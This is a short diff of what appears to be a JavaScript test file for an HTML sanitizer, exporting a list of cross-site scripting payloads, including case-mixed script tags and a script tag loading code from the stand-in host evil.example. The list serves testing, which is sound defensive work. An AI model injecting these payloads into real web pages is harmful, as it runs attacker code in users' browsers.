@@ -6,7 +6,7 @@ import { GOOD_MODEL } from '../good.mjs';
 const RUN = 'window.pwned=1';
 
 /** What wants to run, in each spelling that has worked somewhere. */
-const payloads: readonly string[] = [
+export const payloads: readonly string[] = [
   `<script>${RUN}</script>`,
   `<ScRiPt>${RUN}</sCrIpT>`,
   `<script src=//evil.example/x.js></script>`,
